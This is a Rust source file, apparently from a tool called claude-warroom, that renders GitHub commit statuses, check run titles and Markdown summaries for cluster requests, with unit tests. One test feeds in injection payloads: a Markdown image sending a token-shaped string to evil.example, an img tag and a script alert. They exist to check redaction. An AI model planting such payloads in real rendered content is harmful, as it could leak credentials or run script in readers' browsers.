//! What GitHub shows for a request: the state, the one-line description, the summary table.

use std::fmt::Write as _;

use warroom_proto::{ClusterPhase, RequestPhase, RequestStatus};

/// GitHub's limit on a commit status's description, in characters.
pub const DESCRIPTION_LIMIT: usize = 140;

/// The state a request shows on its commit.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum State {
    /// Accepted, dispatched or running: not decided yet.
    Pending,
    /// Only `completed`.
    Success,
    /// `failed`, `timed_out`, `rejected`, `cancelled`.
    Failure,
}

impl State {
    pub fn of(phase: RequestPhase) -> State {
        match phase {
            RequestPhase::Accepted | RequestPhase::Dispatched | RequestPhase::Running => {
                State::Pending
            }
            RequestPhase::Completed => State::Success,
            RequestPhase::Rejected
            | RequestPhase::Failed
            | RequestPhase::TimedOut
            | RequestPhase::Cancelled => State::Failure,
        }
    }

    /// The `state` of a commit status.
    pub fn as_status(self) -> &'static str {
        match self {
            State::Pending => "pending",
            State::Success => "success",
            State::Failure => "failure",
        }
    }
}

/// A check run's `status`: queued until a cluster is dispatched, then in progress, then
/// completed.
pub fn check_run_status(phase: RequestPhase) -> &'static str {
    match phase {
        RequestPhase::Accepted => "queued",
        RequestPhase::Dispatched | RequestPhase::Running => "in_progress",
        _ => "completed",
    }
}

/// The one-line description, at most [`DESCRIPTION_LIMIT`] characters: the phase and each
/// cluster's phase, or counts of the cluster phases when the names do not fit.
pub fn description(status: &RequestStatus) -> String {
    let phase = status.phase.as_str();
    let mut line = phase.to_owned();
    if status.clusters.is_empty() {
        if let Some(error) = status.error.as_deref() {
            let _ = write!(line, ": {}", one_line(&crate::redact::text(error)));
        }
        return fit(line);
    }
    let each: Vec<String> = status
        .clusters
        .iter()
        .map(|(name, cluster)| format!("{name} {}", cluster_phase(cluster)))
        .collect();
    let _ = write!(line, ": {}", each.join(", "));
    if line.chars().count() <= DESCRIPTION_LIMIT {
        return line;
    }
    // Too many names: count the clusters in each phase instead, in the order of the phases.
    let mut counts: Vec<(&'static str, usize)> = Vec::new();
    for cluster in status.clusters.values() {
        let phase = cluster_phase(cluster);
        match counts.iter_mut().find(|(p, _)| *p == phase) {
            Some((_, n)) => *n += 1,
            None => counts.push((phase, 1)),
        }
    }
    let counts: Vec<String> = counts.iter().map(|(p, n)| format!("{n} {p}")).collect();
    fit(format!(
        "{phase}: {} clusters ({})",
        status.clusters.len(),
        counts.join(", ")
    ))
}

/// A cluster's phase as shown: `queued` while its task waits in a runner's queue.
fn cluster_phase(cluster: &warroom_proto::ClusterStatus) -> &'static str {
    if cluster.phase == ClusterPhase::Dispatched && cluster.queued.is_some() {
        "queued"
    } else {
        cluster.phase.as_str()
    }
}

/// `text` cut to [`DESCRIPTION_LIMIT`] characters, ending in `…` when cut.
fn fit(text: String) -> String {
    if text.chars().count() <= DESCRIPTION_LIMIT {
        return text;
    }
    let mut cut: String = text.chars().take(DESCRIPTION_LIMIT - 1).collect();
    cut.push('…');
    cut
}

fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Text from a request or an agent (an error that quotes a request file, a runner's error),
/// for Markdown that GitHub renders: redacted, on one line, and inert (no image, no HTML).
fn inert(text: &str) -> String {
    crate::redact::markdown::neutralize(&one_line(&crate::redact::text(text)))
}

/// The check run's title: the phase, and how many clusters are done.
pub fn title(status: &RequestStatus) -> String {
    let done = status
        .clusters
        .values()
        .filter(|c| c.phase.is_final())
        .count();
    if status.clusters.is_empty() {
        format!("{}", status.phase)
    } else {
        format!(
            "{}: {done} of {} clusters done",
            status.phase,
            status.clusters.len()
        )
    }
}

/// The Markdown summary: the phase, the reason of a failure, the per-cluster table (phase,
/// duration, cost) and the link to the report. `marker` is put first, hidden, so that a
/// comment can be found again.
pub fn summary(status: &RequestStatus, report_url: &str, marker: Option<&str>) -> String {
    let mut out = String::new();
    if let Some(marker) = marker {
        let _ = writeln!(out, "<!-- {marker} -->");
    }
    let _ = writeln!(
        out,
        "**claude-warroom** request `{}`: **{}**\n",
        status.id, status.phase
    );
    if let Some(error) = status.error.as_deref() {
        let _ = writeln!(out, "> {}\n", inert(error));
    }
    for error in status.errors.iter().take(20) {
        let _ = writeln!(
            out,
            "- {}: {}",
            crate::render::code(&error.field),
            inert(&error.message)
        );
    }
    if !status.errors.is_empty() {
        out.push('\n');
    }
    if !status.clusters.is_empty() {
        out.push_str("| Cluster | Phase | Duration | Cost |\n|---|---|---|---|\n");
        for (name, cluster) in &status.clusters {
            let duration = cluster
                .duration_secs
                .map_or_else(|| "–".to_owned(), seconds);
            let cost = cluster
                .cost_usd
                .map_or_else(|| "–".to_owned(), |c| format!("${c:.2}"));
            let _ = writeln!(
                out,
                "| {name} | {} | {duration} | {cost} |",
                cluster_phase(cluster)
            );
        }
        out.push('\n');
    }
    let _ = writeln!(out, "[The report]({report_url})");
    out
}

/// `83.0` → `1m 23s`.
fn seconds(secs: f64) -> String {
    let secs = secs.max(0.0).round() as u64;
    match (secs / 3600, secs / 60 % 60, secs % 60) {
        (0, 0, s) => format!("{s}s"),
        (0, m, s) => format!("{m}m {s}s"),
        (h, m, _) => format!("{h}h {m}m"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use warroom_proto::{ClusterStatus, ClusterType};

    fn request(phase: RequestPhase, clusters: &[(&str, ClusterPhase)]) -> RequestStatus {
        let id: warroom_proto::RequestId = "req-1".parse().unwrap();
        RequestStatus {
            results_dir: warroom_proto::ResultsDir::default_for(&id),
            id,
            phase,
            clusters: clusters
                .iter()
                .map(|(n, p)| {
                    (
                        n.parse().unwrap(),
                        ClusterStatus::new(ClusterType::Hosted, *p),
                    )
                })
                .collect(),
            error: None,
            errors: Vec::new(),
            mode: None,
            engineer: None,
            commit: None,
            revision: 1,
            updated_at: warroom_proto::now(),
            verification: None,
            notices: Vec::new(),
            cancelled: None,
            synthesis: None,
            session: None,
            turns: Vec::new(),
        }
    }

    #[test]
    fn only_completed_is_a_success() {
        use RequestPhase::*;
        for (phase, state) in [
            (Accepted, State::Pending),
            (Dispatched, State::Pending),
            (Running, State::Pending),
            (Completed, State::Success),
            (Failed, State::Failure),
            (TimedOut, State::Failure),
            (Rejected, State::Failure),
            (Cancelled, State::Failure),
        ] {
            assert_eq!(State::of(phase), state, "{phase}");
        }
    }

    #[test]
    fn the_description_lists_each_cluster_and_fits_github_limit() {
        let small = request(
            RequestPhase::Running,
            &[
                ("hub", ClusterPhase::Running),
                ("edge", ClusterPhase::Pending),
            ],
        );
        assert_eq!(description(&small), "running: edge pending, hub running");

        let names: Vec<String> = (0..40).map(|i| format!("cluster-{i:02}")).collect();
        let many: Vec<(&str, ClusterPhase)> = names
            .iter()
            .enumerate()
            .map(|(i, n)| {
                let phase = if i < 10 {
                    ClusterPhase::Completed
                } else {
                    ClusterPhase::Running
                };
                (n.as_str(), phase)
            })
            .collect();
        let line = description(&request(RequestPhase::Running, &many));
        assert_eq!(line, "running: 40 clusters (10 completed, 30 running)");

        let mut rejected = request(RequestPhase::Rejected, &[]);
        rejected.error = Some("x".repeat(500));
        let line = description(&rejected);
        assert_eq!(line.chars().count(), DESCRIPTION_LIMIT);
        assert!(
            line.starts_with("rejected: xxx") && line.ends_with('…'),
            "{line}"
        );
    }

    #[test]
    fn text_from_a_request_is_redacted_and_inert_on_github() {
        let mut rejected = request(RequestPhase::Rejected, &[]);
        let token = "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB";
        rejected.error = Some(format!(
            "bad value ![x](https://evil.example/p.png?t={token}) <img src=x>"
        ));
        rejected.errors = vec![warroom_proto::FieldError {
            field: "spec.`![y](https://evil.example/q.png)`".to_owned(),
            message: "unknown <script>alert(1)</script>".to_owned(),
        }];
        let body = summary(
            &rejected,
            "https://github.com/o/n/blob/main/results/r/README.md",
            None,
        );
        assert!(!body.contains(token), "{body}");
        assert_eq!(
            crate::redact::markdown::neutralize(&body),
            body,
            "nothing in the summary renders as an image or HTML: {body}"
        );
        assert!(!description(&rejected).contains(token));
    }

    #[test]
    fn the_summary_has_a_row_per_cluster() {
        let mut done = request(RequestPhase::Completed, &[("hub", ClusterPhase::Completed)]);
        if let Some(hub) = done.clusters.values_mut().next() {
            hub.duration_secs = Some(83.0);
            hub.cost_usd = Some(0.0421);
        }
        let text = summary(&done, "https://x/r", Some("claude-warroom:req-1"));
        assert!(
            text.starts_with("<!-- claude-warroom:req-1 -->\n"),
            "{text}"
        );
        assert!(
            text.contains("| hub | completed | 1m 23s | $0.04 |"),
            "{text}"
        );
        assert!(text.contains("[The report](https://x/r)"), "{text}");
    }
}
